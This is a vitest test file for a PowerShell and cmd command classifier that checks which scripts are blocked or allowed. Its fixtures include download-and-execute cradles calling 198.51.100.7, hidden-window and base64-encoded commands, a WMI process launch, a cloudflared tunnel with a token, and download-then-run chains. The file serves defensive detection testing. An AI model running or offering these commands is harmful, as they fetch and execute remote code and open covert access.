/**
 * Blind round 17: the dangerous step sits in a helper function or a job's script block, and the value that makes it
 * dangerous arrives as an argument. Also what a program started with a file does with it, and decoding to the screen.
 */
import { describe, expect, it } from 'vitest';
import { decisionOf as decision, evaluateLine } from './family-test-support';

const codes = (text: string) => evaluateLine(text, 'powershell').reasons.map((r) => r.code);

describe('a helper function runs what its caller passes', () => {
  it('a process created through WMI with a command line passed as a parameter', () => {
    const script = [
      '$cradle = "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a.ps1\')"',
      "$line = 'powershell.exe -nop -w hidden -c \"' + $cradle + '\"'",
      'function Start-Detached([string]$CommandLine) {',
      '    $r = Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList $CommandLine',
      '    return $r.ProcessId',
      '}',
      'Write-Host "pid $(Start-Detached -CommandLine $line)"',
    ].join('\n');
    expect(codes(script)).toContain('download_execute');
  });

  it('WScript.Shell.Run of an encoded command assembled from the arguments', () => {
    const script = [
      'function Invoke-Quiet {',
      '    param([string]$Exe, [string]$Arguments)',
      '    $sh = New-Object -ComObject WScript.Shell',
      '    [void]$sh.Run("$Exe $Arguments", 0, $false)',
      '}',
      "$blob = 'SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcAA6AC8ALwAxADkAOAAuADUAMQAuADEAMAAwAC4ANwAvAGEAKQA='",
      "Invoke-Quiet -Exe 'powershell.exe' -Arguments ('-nop -w hidden -enc ' + $blob)",
    ].join('\n');
    expect(decision(script, 'powershell')).toBe('block');
    expect(codes(script)).toContain('encoded_command');
  });

  it('a tunnel started in a background job with the program and token as -ArgumentList', () => {
    const script = [
      '$exe = "$env:ProgramData\\cf\\cloudflared.exe"',
      '$j = Start-Job -ArgumentList $exe, $token -ScriptBlock {',
      '    param($e, $t)',
      '    & $e tunnel --no-autoupdate run --token $t',
      '}',
    ].join('\n');
    expect(codes(script)).toContain('tunnel');
  });

  it('helpers called with ordinary values stay allowed', () => {
    const script = [
      'function Write-Log { param([string]$Message, [string]$Level = "INFO") Add-Content -Path C:\\ProgramData\\x.log -Value "$Level $Message" }',
      'function Restart-IfStopped([string]$Name) { if ((Get-Service $Name).Status -ne "Running") { Start-Service $Name } }',
      "Write-Log 'starting'",
      "Restart-IfStopped -Name 'Spooler'",
      "Invoke-Command -ComputerName srv01 -ArgumentList 'W32Time' -ScriptBlock { param($s) Restart-Service $s }",
      "Write-Log -Message 'done' -Level 'OK'",
    ].join('\n');
    expect(decision(script, 'powershell')).toBe('allow');
  });
});

describe('a program started with a file', () => {
  it('a downloaded document opened in a browser is not run', () => {
    const script =
      'Invoke-WebRequest https://example.com/docs/manual.pdf -OutFile C:\\Temp\\manual.pdf\nStart-Process msedge.exe C:\\Temp\\manual.pdf';
    expect(decision(script, 'powershell')).toBe('allow');
    expect(decision('curl -o %TEMP%\\notes.txt https://example.com/notes.txt\r\nstart /max notepad.exe %TEMP%\\notes.txt', 'cmd')).toBe(
      'allow',
    );
  });

  it('a downloaded script given to a program that runs files is', () => {
    expect(
      decision('iwr https://example.com/x.ps1 -OutFile C:\\Temp\\x.ps1\nStart-Process powershell.exe C:\\Temp\\x.ps1', 'powershell'),
    ).toBe('block');
    expect(decision('curl -o %TEMP%\\x.cmd https://example.com/x.cmd\r\nstart "" /b cmd /c %TEMP%\\x.cmd', 'cmd')).toBe('block');
    expect(decision('curl -o %TEMP%\\x.exe https://example.com/x.exe\r\nstart "Updater" /d %TEMP% %TEMP%\\x.exe', 'cmd')).toBe('block');
  });
});

describe('base64 decoded onto the screen runs nothing', () => {
  const decode = '[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("SQBFAFgAIAAoAGkAcgBtACkA"))';

  it('a decode that is the whole statement is allowed', () => {
    expect(decision(decode, 'powershell')).toBe('allow');
  });

  it('the same decode run by Invoke-Expression or a script block is not', () => {
    expect(decision(`iex (${decode})`, 'powershell')).toBe('block');
    expect(decision(`${decode} | iex`, 'powershell')).toBe('block');
    expect(decision(`& ([scriptblock]::Create(${decode}))`, 'powershell')).toBe('block');
  });
});
